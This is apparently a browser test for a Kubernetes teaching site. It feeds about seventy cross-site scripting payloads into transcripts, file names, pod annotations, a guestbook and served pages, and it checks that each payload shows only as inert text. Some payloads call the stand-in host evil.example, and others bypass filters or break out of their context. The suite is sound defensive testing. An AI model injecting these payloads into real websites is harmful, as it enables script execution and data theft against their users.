import { readFile } from 'node:fs/promises'
import type { Frame, Page } from 'playwright-core'
import { expect, test } from 'vitest'
import type { Action } from '../../src/lesson/lesson.ts'
import { Session } from '../../src/session/session.ts'
import { course } from '../../tools/course.ts'
import { linkTo } from '../../src/site/notebook/share.ts'
import { NotebookPage } from './notebook.ts'
import { describeInBrowser, eventually, visit } from './site.ts'

const CHAPTER = '3-verifying'
const PAGE = 'http://192.168.2.202:30001/'
const MESSAGES = `${PAGE}guestbook.php?cmd=get&key=messages`

/** Each would call `ran()`, or ask some server for something, if anything of the page took it for more than text. */
const PAYLOADS: readonly string[] = [
  '<script>ran()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/x>ran()</script>',
  '<scr<script>ipt>ran()</scr</script>ipt>',
  '<img src=x onerror=ran()>',
  '<img src onerror=ran()>',
  '<img/src=x/onerror=ran()>',
  '<IMG SRC=x ONERROR=ran()>',
  '<img srcset=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg/onload=ran()>',
  '<svg><script>ran()</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>',
  '<math href=javascript:ran()>x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<iframe src=javascript:ran()></iframe>',
  '<iframe srcdoc=&lt;script&gt;parent.ran()&lt;/script&gt;></iframe>',
  '<object data=javascript:ran()></object>',
  '<embed src=javascript:ran()>',
  '<a href=javascript:ran()>x</a>',
  '<a href=JaVaScRiPt:ran()>x</a>',
  '<a href=java&Tab;script:ran()>x</a>',
  '<a href=&#1;javascript:ran()>x</a>',
  '<a href=data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg>x</a>',
  '<a href=vbscript:ran()>x</a>',
  '<form action=javascript:ran()><button>x</button></form>',
  '<form><button formaction=javascript:ran()>x</button></form>',
  '<input autofocus onfocus=ran()>',
  '<select autofocus onfocus=ran()></select>',
  '<textarea autofocus onfocus=ran()></textarea>',
  '<details open ontoggle=ran()>x</details>',
  '<video src=x onerror=ran()></video>',
  '<video poster=//evil.example/p></video>',
  '<video><source onerror=ran()></video>',
  '<audio src=x onerror=ran()></audio>',
  '<marquee onstart=ran()>x</marquee>',
  '<body onload=ran()>',
  '<body background=//evil.example/b>',
  '<p style=background:url(//evil.example/s)>x</p>',
  '<style>*{background:url(//evil.example/c)}</style>',
  '<style>@import url(//evil.example/i)</style>',
  '<link rel=stylesheet href=//evil.example/l>',
  '<link rel=prefetch href=//evil.example/f>',
  '<meta http-equiv=refresh content=0;url=javascript:ran()>',
  '<base href=//evil.example/>',
  '<template shadowrootmode=open><img src=x onerror=ran()></template>',
  '<noscript><p title=</noscript><img src=x onerror=ran()>></noscript>',
  '</pre><img src=x onerror=ran()>',
  '</textarea><img src=x onerror=ran()>',
  '</title><img src=x onerror=ran()>',
  '</script><script>ran()</script>',
  '--><img src=x onerror=ran()>',
  ']]><img src=x onerror=ran()>',
  '`><img src=x onerror=ran()>',
  '"><img src=x onerror=ran()>',
  "'><img src=x onerror=ran()>",
  '" autofocus onfocus=ran() x="',
  "' autofocus onfocus=ran() x='",
  "');ran();//",
  '"-ran()-"',
  '${ran()}',
  "{{constructor.constructor('ran()')()}}",
  'javascript:ran()',
  'data:text/html,<script>ran()</script>',
  '&lt;img src=x onerror=ran()&gt;',
  '&#60;img src=x onerror=ran()&#62;',
  '\\u003cimg src=x onerror=ran()\\u003e',
  '%3Cimg src=x onerror=ran()%3E',
]
/** The guestbook's page reads its messages as JSON that nobody has escaped, and parts them at commas. */
const MESSAGE_LIKE = PAYLOADS.filter(payload => !/["\\,]/.test(payload))

/** A handler in a page that the pane has been given is reported when it is read, before the pane takes it out. */
const IN_PANE = /Executing inline event handler violates [^]*\/pane\.(js|html)\)$/

const quoted = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`
const inName = (text: string): string => text.replaceAll('/', '∕')

/** One sitting with every payload in every place that takes a learner's text. */
function hostile(): Session {
  const session = new Session({ course, chapter: CHAPTER })
  const pod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'hostile', labels: { app: 'hostile' }, annotations: Object.fromEntries(PAYLOADS.map((payload, n) => [`n${n}`, payload])) },
    spec: {
      containers: PAYLOADS.map((payload, n) => ({ name: `c${n}`, image: payload, command: [payload], env: [{ name: 'X', value: payload }] })),
    },
  }
  const controllers = PAYLOADS.slice(0, 4).map((payload, n) => ({
    apiVersion: 'v1',
    kind: 'ReplicationController',
    metadata: { name: `hostile-${n}` },
    spec: { replicas: 1, template: { metadata: { labels: { n: `${n}` } }, spec: { containers: [{ name: 'c', image: `x:${payload}` }] } } },
  }))
  const actions: Action[] = [
    { write: 'hostile.json', text: JSON.stringify(pod) },
    { write: 'controllers.json', text: JSON.stringify({ apiVersion: 'v1', kind: 'List', items: controllers }) },
    ...PAYLOADS.map(payload => ({ write: `${inName(payload)}.yaml`, text: PAYLOADS.join('\n') })),
    'kubectl create -f hostile.json',
    'kubectl create -f controllers.json',
    `kubectl annotate pod hostile ${PAYLOADS.map((payload, n) => quoted(`a${n}=${payload}`)).join(' ')}`,
    ...PAYLOADS.slice(0, 6).map(payload => `kubectl label pod hostile ${quoted(`l=${payload}`)}`),
    `echo ${PAYLOADS.map(quoted).join(' ')}`,
    'ls',
    `kubectl exec {pod name=redis-master} -- redis-cli set messages ${quoted(MESSAGE_LIKE.join(','))}`,
    ...PAYLOADS.map(payload => ({ request: { method: 'GET', url: PAGE + encodeURI(payload) } })),
    { wait: 30_000 },
    'kubectl describe pod hostile',
    'kubectl get pod hostile -o yaml',
    `kubectl get pods ${quoted(PAYLOADS[4]!)}`,
  ]
  for (const action of actions) session.play(action)
  return session
}

describeInBrowser('what a learner writes', () => {
  test.concurrent(`${PAYLOADS.length} payloads are only text, wherever they are put and shown`, () =>
    visit(
      async ({ context, page, url, complaints }) => {
        await context.addInitScript(() => Object.assign(globalThis, { ran: () => console.error('an injected script ran') }))
        page.on('dialog', dialog => void complaints.push(`dialog: ${dialog.message()}`))
        const session = hostile()
        const saved = session.save()
        const done = { ...saved.progress.done, 'six-pods': 1, 'from-where': 1, containers: 1, 'page-answers': 1 }
        const notebook = await NotebookPage.open({ page, url }, CHAPTER, 'en')
        await notebook.import(JSON.stringify({ ...saved, progress: { ...saved.progress, done, answers: { 'whose-container': PAYLOADS[4] } } }))
        await eventually(async () => expect(await notebook.transcript()).toContain(`pods "${PAYLOADS[4]}" not found`))

        await expectAll(await notebook.transcript(), PAYLOADS, 'the transcript')
        await page.locator('kb-error [role=status]').waitFor()
        await eventually(async () => expectAll(await notebook.step('signed').innerText(), MESSAGE_LIKE.slice(0, 1), 'the card'))
        for (const button of await page.locator('kb-cluster .flag').all()) await button.click()
        await page.locator('kb-cluster .pic').focus()
        await page.keyboard.press('ArrowRight')
        for (let presses = 0; presses < 20 && !(await describes(page, 'hostile')); presses++) {
          await page.keyboard.press('Enter')
          await page.keyboard.press('ArrowDown')
        }
        expectAll(await page.locator('kb-cluster .drawer').innerText(), PAYLOADS.slice(0, 1), 'the drawer')
        await clean(page.mainFrame())

        await page.locator('.tabs [data-do=files]').click()
        expectAll(await page.locator('kb-editor').innerText(), PAYLOADS.map(inName), 'the names of files')
        await page.locator('kb-editor').getByRole('tab').nth(3).click()
        await page.locator('.cm-line', { hasText: PAYLOADS[0]! }).first().waitFor()
        await page.locator('.tabs [data-do=files]').click()

        await page.keyboard.press('F1')
        for (const payload of PAYLOADS.slice(0, 8)) await page.locator('.palette input').fill(payload)
        await page.locator('.palette input').fill('transcript')
        const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('Enter')])
        expect(download.suggestedFilename()).toMatch(/\.txt$/)
        expectAll(await readFile(await download.path(), 'utf8'), PAYLOADS, 'the file of the transcript')

        await page.emulateMedia({ media: 'print' })
        expectAll(await page.locator('kb-terminal [role=log]').innerText(), PAYLOADS, 'the printed page')
        await clean(page.mainFrame())
        await page.emulateMedia({ media: 'screen' })

        await page.locator('[data-tab=web]').click()
        for (const address of [PAGE, MESSAGES, ...PAYLOADS.slice(0, 4), `${PAGE}${PAYLOADS[4]!}`]) {
          const frame = await browse(page, address)
          if (address === PAGE)
            await eventually(async () => expectAll((await frame.locator('body').allInnerTexts()).join(), MESSAGE_LIKE, 'the guestbook'))
          await clean(frame)
        }
        const guestbook = await browse(page, PAGE)
        await guestbook.locator('input').fill(PAYLOADS[4]!)
        await guestbook.locator('input').press('Enter')
        await eventually(async () => expectAll(await guestbook.locator('body').innerText(), PAYLOADS.slice(4, 5), 'the signed guestbook'))
        for (const payload of PAYLOADS) {
          await page.evaluate(servePage, payload)
          await guestbook.locator('#served').waitFor({ state: 'attached' })
          await clean(guestbook)
          await guestbook.evaluate(() => document.querySelector('#served')!.remove())
        }
        for (const payload of PAYLOADS.filter(each => each.startsWith('<a '))) {
          const frame = await browse(page, PAGE)
          await frame.locator('[ng-submit]').waitFor()
          await page.evaluate(servePage, payload)
          await frame.locator('a').dispatchEvent('click')
          await page.evaluate(() => new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn))))
        }
        await clean(page.mainFrame())

        await page.goto('about:blank')
        await page.goto(await linkTo(saved, new URL(`${url}${CHAPTER}/`)))
        await eventually(async () => expectAll(await notebook.transcript(), PAYLOADS, 'the transcript of a shared sitting'))
        await clean(page.mainFrame())
      },
      { expected: IN_PANE },
    ),
  )
})

const describes = async (page: Page, name: string): Promise<boolean> =>
  (await page.locator('kb-cluster .drawer h2').allInnerTexts()).some(title => title === name)

function expectAll(text: string, payloads: readonly string[], where: string): void {
  const flat = text.replaceAll(/\s+/g, ' ')
  expect(
    payloads.filter(payload => !flat.includes(payload)),
    where,
  ).toEqual([])
}

/** Nothing in it has become an element that acts. */
async function clean(frame: Frame): Promise<void> {
  const acting = await frame.evaluate(() =>
    Array.from(document.querySelectorAll('*')).flatMap(element =>
      element
        .getAttributeNames()
        .filter(
          name =>
            /^on/i.test(name) ||
            /ran\(\)|evil/.test(name === 'value' || name.startsWith('aria-') || name === 'title' ? '' : element.getAttribute(name)!),
        )
        .map(name => `${element.localName} ${name}=${element.getAttribute(name)}`),
    ),
  )
  expect(acting).toEqual([])
}

/** Opens an address in the browser pane; the frame of its page, which is a new one. */
async function browse(page: Page, address: string): Promise<Frame> {
  await page.evaluate(() => document.querySelector('kb-browser iframe')?.setAttribute('data-old', ''))
  const field = page.locator('kb-browser input')
  await field.fill(address)
  await field.press('Enter')
  const shown = await page.locator('kb-browser iframe:not([data-old])').elementHandle()
  const frame = (await shown!.contentFrame())!
  await frame.locator('body > *').first().waitFor({ state: 'attached' })
  return frame
}

// Runs in the page: what the pane would do with a page that some container serves.
const servePage = (payload: string): void => {
  const body = `<p id=served>served</p>${payload}`
  document
    .querySelector<HTMLIFrameElement>('kb-browser iframe')!
    .contentWindow!.postMessage({ answer: { status: 200, contentType: 'text/html', body } }, '*')
}
